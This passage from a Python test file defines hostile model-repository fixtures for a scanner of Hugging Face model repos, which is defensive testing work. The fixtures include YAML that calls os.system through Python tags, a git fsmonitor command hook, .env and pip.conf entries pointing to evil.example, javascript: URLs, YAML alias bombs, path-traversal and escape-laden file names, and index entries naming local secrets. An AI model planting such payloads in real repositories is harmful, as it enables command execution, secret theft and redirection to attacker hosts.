        "token_ids_in_the_billions",
        "One word has the id 4,000,000,000.",
        in_vocabulary("word", 4_000_000_000),
        "refused",
        "token ids above",
    ),
    HostileRepo(
        "token_ids_negative",
        "One word has an id below 0.",
        in_vocabulary("word", -1),
        "refused",
        "tokenizer",
    ),
    HostileRepo(
        "tokenizer_writes_unknown_ids",
        "The post-processor puts an id into each text that the model has no row for.",
        tokenizer(post_processor=BEYOND),
        "refused",
        "tokenizer",
    ),
    HostileRepo(
        "tokenizer_that_pads",
        "The tokenizer.json pads each text to 100,000,000 tokens.",
        tokenizer(padding=PADDING, truncation=TRUNCATION),
        "harmless",
    ),
    HostileRepo(
        "tokenizer_with_two_words_of_one_id",
        "Two words have one id.",
        in_vocabulary(SCRIPT, 7),
        "harmless",
    ),
]

CARDS = [
    HostileRepo("card_yaml_broken", "The card's YAML is none.", card("license: [@TEXT\n\t:: {"), "harmless"),
    HostileRepo(
        "card_yaml_of_5_mb",
        "The card's YAML is 5 MB.",
        card("license: mit\ntags: [" + "'@TEXT', " * 350_000 + "x]"),
        "harmless",
    ),
    HostileRepo(
        "card_yaml_nested", "The card's YAML is nested 40,000 deep.", card("tags: " + "[" * 40_000), "harmless"
    ),
    HostileRepo(
        "card_alias_bomb",
        "The card's YAML names lists of lists, 9**29 entries (billion laughs).",
        card(ALIAS_BOMB),
        "harmless",
    ),
    HostileRepo(
        "card_merge_bomb",
        "The card's YAML merges mappings into mappings, ten million entries.",
        card(MERGE_BOMB),
        "harmless",
    ),
    HostileRepo(
        "card_python_tags",
        "The card's YAML calls os.system by a tag of Python's.",
        card("license: !!python/object/apply:os.system ['touch @PATH']\ntags: !!python/name:os.system"),
        "harmless",
    ),
    HostileRepo(
        "card_yaml_tag_bool",
        "The card's YAML has a truth value that is neither.",
        card("license: !!bool maybe"),
        "harmless",
    ),
    HostileRepo(
        "card_yaml_tag_int", "The card's YAML has a number without digits.", card("license: !!int ''"), "harmless"
    ),
    HostileRepo(
        "card_yaml_tag_date",
        "The card's YAML has a date that is none.",
        card("license: !!timestamp never"),
        "harmless",
    ),
    HostileRepo(
        "card_of_script",
        "License, languages, task and tags are HTML that runs.",
        card_keys(license=SCRIPT, language=[IMAGE, SCRIPT], pipeline_tag=SCRIPT, tags=[IMAGE]),
        "harmless",
    ),
    HostileRepo(
        "card_of_links",
        "License, languages, task and tags are Markdown links.",
        card_keys(license=LINK, language=[URL_LINK], pipeline_tag=URL_LINK, tags=[LINK]),
        "harmless",
    ),
    HostileRepo(
        "card_of_urls",
        "License, languages, task and tags are URLs that run.",
        card_keys(license="javascript:@TEXT", language="data:text/html,@TEXT", pipeline_tag="javascript:@TEXT"),
        "harmless",
    ),
    HostileRepo(
        "card_of_lines",
        "License and languages end the YAML and go on as Markdown.",
        card_keys(
            license="mit\n---\n# @TEXT",
            language=["en\r\n---\r\n# @TEXT", "de\u2028---\u2028@TEXT", "fr\u0085@TEXT"],
            pipeline_tag="text-classification\n@TEXT: yes",
        ),
        "harmless",
    ),
    HostileRepo(
        "card_of_many_languages",
        "The card names 10,000 languages.",
        card_keys(language=[f"x{i}" for i in range(10_000)]),
        "harmless",
    ),
    HostileRepo(
        "card_links_to_a_license",
        "The card's license is elsewhere.",
        card_keys(license="other", license_name="@TEXT", license_link="https://evil.example/@TEXT"),
        "harmless",
    ),
    HostileRepo(
        "card_extra_keys",
        "The card brings keys that the Hub acts on.",
        card_keys(
            widget=[{"text": SCRIPT}],
            extra_gated_prompt=SCRIPT,
            inference={"parameters": {"x": "@TEXT"}},
            thumbnail="https://evil.example/@TEXT",
            datasets=["evil/repo"],
            base_model_relation="@TEXT",
            new_version="evil/repo",
            co2_eq_emissions={"source": SCRIPT},
        ),
        "harmless",
    ),
    HostileRepo(
        "card_base_url", "The card's base is a URL.", card_keys(base_model="https://evil.example/base"), "harmless"
    ),
    HostileRepo("card_base_etc", "The card's base is a local folder.", card_keys(base_model="/etc"), "harmless"),
    HostileRepo("card_base_climbs", "The card's base is a folder above.", card_keys(base_model="../../x"), "harmless"),
    HostileRepo("card_base_secret", "The card's base is a local file.", card_keys(base_model="@SECRET"), "harmless"),
    HostileRepo(
        "card_base_list",
        "The card has 1,000 bases.",
        card_keys(base_model=[f"evil/repo{i}" for i in range(1000)]),
        "harmless",
    ),
    HostileRepo(
        "card_base_itself", "The card's base is the suspect itself.", card_keys(base_model=SUSPECT_ID), "harmless"
    ),
    HostileRepo(
        "card_base_sister",
        "The card's base is another repo of the suspect's publisher.",
        card_keys(base_model=SISTER_ID),
        "harmless",
    ),
    HostileRepo(
        "card_base_number", "The card's base is no text.", card_keys(base_model={"a": [1, None, SCRIPT]}), "harmless"
    ),
    HostileRepo(
        "card_of_results",
        "The card claims results that were never measured.",
        card_keys(**{"model-index": [FORGED_RESULTS]}),
        "harmless",
    ),
    HostileRepo(
        "card_with_our_markers",
        "The card's text stands between the marks that our own is known by.",
        card("license: mit", MARKERS),
        "harmless",
    ),
    HostileRepo("card_binary", "The card is no text.", put({README: b"---\n\xff\xfe\x00\x80" * 1000}), "harmless"),
    HostileRepo(
        "card_in_utf16",
        "The card is in another encoding.",
        put({README: "---\nlicense: @TEXT\n---\n".encode("utf-16")}),
        "harmless",
    ),
]

OTHERS = [
    HostileRepo(
        "nan_weights", "All weights are NaN.", data(lambda old: np.full_like(old, np.nan)), "refused", "finite"
    ),
    HostileRepo(
        "infinite_weights",
        "All weights are infinite.",
        data(lambda old: np.full_like(old, np.inf)),
        "refused",
        "finite",
    ),
    HostileRepo("zero_weights", "All weights are 0.", data(np.zeros_like), "refused"),
    HostileRepo(
        "one_nan", "One weight is NaN.", data(lambda old: np.concatenate([old[:-1], [np.nan]])), "refused", "finite"
    ),
    HostileRepo(
        "weights_passed_by",
        "Other weights lie beside, by a name that transformers takes in place of the real ones.",
        distributed_shards,
        "harmless",
    ),
    HostileRepo(
        "weights_behind_an_attribute_map",
        "Other weights lie beside, and the config names them under a name that attribute_map says is the key for it.",
        both(
            config(attribute_map={"transformers_weights": "kept"}, kept="other.safetensors"),
            lambda files, canary: {**files, "other.safetensors": other_head(files)},
        ),
        "harmless",
    ),
    HostileRepo(
        "metadata_of_script",
        "The weights' header holds HTML and paths.",
        metadata({SCRIPT: "@SECRET", "auto_map": "evil.Model", "x": TABLE}),
        "harmless",
    ),
    HostileRepo(
        "tensors_of_script",
        "Tensors are called by HTML, Markdown and terminal escapes.",
        more_tensors(SCRIPT, LINK, TABLE, "\x1b[2J\x1b]0;@TEXT\x07", "../../@TEXT", "@SECRET", "\u202e@TEXT"),
        "harmless",
    ),
    HostileRepo("index_to_a_secret", "The index names a local file.", split_index("@SECRET"), "refused", "index"),
    HostileRepo(
        "index_that_climbs",
        "The index names a file above the repo.",
        split_index("../../secret.txt"),
        "refused",
        "index",
    ),
    HostileRepo(
        "index_to_a_url",
        "The index names a URL.",
        split_index("https://evil.example/part.safetensors"),
        "refused",
        "index",
    ),
    HostileRepo(
        "index_to_nothing",
        "The index names a file that is not in the repo.",
        split_index("other.safetensors"),
        "refused",
        "missing",
    ),
    HostileRepo(
        "forged_report",
        "The repo holds a report and a config of ours, forged.",
        put(
            {
                "cleaning_report.json": FORGED_REPORT,
                "fine_mixing_config.json": FORGED_MIXING,
                "figures/before_after.png": b"<svg>",
            }
        ),
        "harmless",
    ),
    HostileRepo(
        "broken_report",
        "The repo holds a report and a config of ours that are no JSON.",
        put({"cleaning_report.json": b"{" * 100_000, "fine_mixing_config.json": b"\xff"}),
        "harmless",
    ),
    HostileRepo(
        "dot_files",
        "The repo brings settings for git, for tools and for the Hub.",
        put(
            {
                ".env": "HF_TOKEN=@TEXT\nHF_ENDPOINT=https://evil.example",
                ".gitattributes": "* filter=@TEXT",
                ".git/config": "[core]\n\tfsmonitor = touch @PATH",
                ".huggingface/token": "@TEXT",
                "pip.conf": "[global]\nindex-url=https://evil.example",
            }
        ),
        "harmless",
    ),
]

NAMES = [
    HostileRepo(
        "name_climbs",
        "A file is called ../../evil.safetensors.",
        also("../../evil.safetensors"),
        "harmless",
        "",
        (),
        True,
    ),
    HostileRepo(
        "name_climbs_from_a_folder",
        "A file is called a/../../../evil.safetensors.",
        also("a/../../../evil.safetensors"),
        "harmless",
        "",
        (),
        True,
    ),
    HostileRepo(
        "name_absolute",
        "A file is called by a full path.",
        put({"@PATH.safetensors": b"x", "@PATH/README.md": b"x"}),
        "harmless",
        "",
        (),
        True,
    ),
    HostileRepo(
        "name_with_backslashes",
        "A file is called by a path of Windows.",
        also("..\\..\\evil.safetensors", "C:\\evil.safetensors"),
        "harmless",
    ),
    HostileRepo(
        "name_with_escapes",
        "A file's name clears the screen.",
        also("\x1b[2J\x1b]0;@TEXT\x07.safetensors"),
        "harmless",
    ),
    HostileRepo(
        "name_with_a_line_break",
        "A file's name has a line break.",
        also("a\nhf-finemix: @TEXT\n.safetensors"),
        "harmless",
    ),
    HostileRepo(
        "name_turned_around",
        "A file's name turns text around: it looks like x.safetensors.txt.",
        also("x\u202etxt.\u2066.safetensors"),
        "harmless",
    ),
    HostileRepo("name_with_nul", "A file's name has a zero byte.", also("a\0.safetensors"), "harmless", "", (), True),
    HostileRepo(
        "name_of_300_signs",
        "A file's name is longer than a disk allows.",
        also("x" * 300 + ".safetensors"),
        "harmless",
        "",
        (),
        True,
    ),
    HostileRepo(
        "name_with_percents",
        "A file's name is a URL's part.",
        also("%2e%2e%2fevil.safetensors", "a?b#c%00.safetensors"),
        "harmless",
    ),
    HostileRepo(
        "names_differ_by_case",
        "Files differ by case only, and say other things.",
        put(
            {
                "Model.safetensors": b"x",
                "CONFIG.json": "[]",
                "Config.json": "[]",
                "readme.md": "@TEXT",
                "Tokenizer.json": "{",
            }
        ),
        "harmless",
    ),
    HostileRepo(
        "weights_are_a_folder",
        "A folder is called model.safetensors.",
        both(
            also(f"{WEIGHTS}/{WEIGHTS}"),
            lambda files, canary: {name: c for name, c in files.items() if name != WEIGHTS},
        ),
        "refused",
        "safetensors",
    ),
    HostileRepo(
        "config_is_a_folder",
        "A folder is called config.json.",
        both(
            also(f"{CONFIG}/{WEIGHTS}"), lambda files, canary: {name: c for name, c in files.items() if name != CONFIG}
        ),
        "refused",
        "config.json",
    ),
    HostileRepo(
        "weights_and_a_folder",
        "A file and a folder have the same name.",
        also(f"{WEIGHTS}/{WEIGHTS}"),
        "harmless",
        "",
        (),
        True,
    ),
]

# Those that ask for code, once more with the user's leave to read them without it.
WITHOUT_CODE = [
    replace(
        repo,
        name=f"{repo.name}_ignored",
        what=f"{repo.what} The user names it, to be read without.",
        flags=("--ignore-custom-code", SUSPECT_ID),
        expect="refused" if "unknown_model" in repo.name else "harmless",
        hint="model type" if "unknown_model" in repo.name else "",
    )
    for repo in CODES
    if repo.hint == "code of its own"
]

HOSTILE_REPOS: list[HostileRepo] = [
    *PICKLES,
    *CODES,
    *WITHOUT_CODE,
    *CONFIGS,
    *TOKENIZERS,
    *CARDS,
    *OTHERS,
    *NAMES,
]
